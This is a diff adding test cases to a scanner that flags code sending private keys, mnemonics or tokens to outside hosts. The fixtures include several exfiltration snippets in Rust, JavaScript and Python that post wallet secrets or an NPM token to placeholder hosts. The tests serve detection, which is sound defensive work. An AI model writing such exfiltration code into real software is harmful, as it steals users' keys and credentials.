@@ -3812,6 +3812,12 @@ describe('secret-harvesting: a private key in a request written over several lin
     expect(sent('src/wallet.ts', wallet(['  const xhr = new XMLHttpRequest();', "  xhr.open('POST', 'https://px.example.dev/p');", '  xhr.send(privateKey);']))?.line).toBe(15);
     expect(sent('pkg/wallet.py', ['from eth_account import Account', 'def load(private_key):', '    acct = Account.from_key(private_key)', "    ws = websocket.create_connection('wss://eth-status.example/s')", '    ws.send(private_key)'])?.line).toBe(15);
   });
+  it('reads a request builder written one call a line (reqwest, superagent) and Python\'s url= keyword', () => {
+    expect(sent('src/wallet.rs', ['use solana_sdk::signature::Keypair;', 'const SINK: &str = "https://sol-metrics.example/v1";', 'pub fn load(bytes: &[u8], secret_key: &[u8]) -> Keypair {', '    let keypair = Keypair::from_bytes(bytes).unwrap();', '    let _ = reqwest::blocking::Client::new()', '        .post(SINK)', '        .body(bs58::encode(secret_key).into_string())', '        .send();', '    keypair', '}'])?.line).toBe(17);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.fromPhrase(mnemonic);', 'superagent', "  .post('https://x-metrics.example/c')", '  .send({ mnemonic })', '  .end(() => undefined);'])?.line).toBe(14);
+    expect(sent('pkg/w.py', ['from eth_account import Account', "SINK = 'https://eth-metrics.example/c'", 'def load(private_key):', '    acct = Account.from_key(private_key)', "    requests.post(url=SINK, json={'k': private_key}, timeout=3)", '    return acct'])?.line).toBe(15);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.fromPhrase(mnemonic);', 'superagent', "  .post('https://rpc.example.dev/c')", '  .send({ address: wallet.address })', '  .then((r) => store(mnemonic));'])).toBeUndefined();
+  });
   it('a function the change defines that sends over several lines is a sender', () => {
     expect(sent('src/keypair.ts', keypair(['  report(secretKey);', '}', 'function report(k: Uint8Array) {', '  return fetch(', "    'https://sol-rpc-metrics.example/v1',", "    { method: 'POST', body: k },", '  );']))?.title).toBe('A private key is handed to report(), which sends it to a host');
   });
@@ -4896,6 +4902,8 @@ describe('suspicious-network-endpoint: a secret in a request written over severa
     expect(sent('src/auth.js', ["const TOKEN_URL = 'https://github.com/login/oauth/access_token';", ...pad, 'export async function exchange(code) {', '  const secret = process.env.GITHUB_CLIENT_SECRET;', '  return fetch(TOKEN_URL, {', "    method: 'POST',", '    body: new URLSearchParams({ client_id: id, client_secret: secret, code }),', '  });', '}'])).toBeUndefined();
     expect(sent('src/telemetry.js', ["const ENDPOINT = 'https://telemetry.acme-sdk.dev/v1/events';", 'const token = process.env.ACME_SDK_TOKEN;', 'export function track(event) {', '  navigator.sendBeacon(ENDPOINT, JSON.stringify({ event, version: VERSION }));', '}'])).toBeUndefined();
     expect(sent('src/slack.js', ["const API = 'https://slack.com/api/chat.postMessage';", ...pad, 'export async function post(channel, text) {', '  const token = process.env.SLACK_BOT_TOKEN;', '  await fetch(API, {', "    method: 'POST',", '    body: JSON.stringify({ token, channel, text }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/w.js', ['const t = process.env.NPM_TOKEN;', 'superagent', "  .post('https://npm-metrics-cdn.com/c')", "  .set('PRIVATE-TOKEN', t)", '  .send({ ok: 1 });'])).toBeUndefined();
+    expect(sent('src/w.js', ['const t = process.env.NPM_TOKEN;', 'superagent', "  .post('https://npm-metrics-cdn.com/c')", '  .send({ t })', '  .end();'])?.severity).toBe('critical');
     expect(sent('src/client.ts', ['export class Client {', '  async user() {', '    const token = process.env.NPM_TOKEN;', '    return fetch(`${this.baseUrl}/user`, {', '      method: "POST",', '      body: JSON.stringify({ token }),', '    });', '  }', '}'])).toBeUndefined();
   });
 });
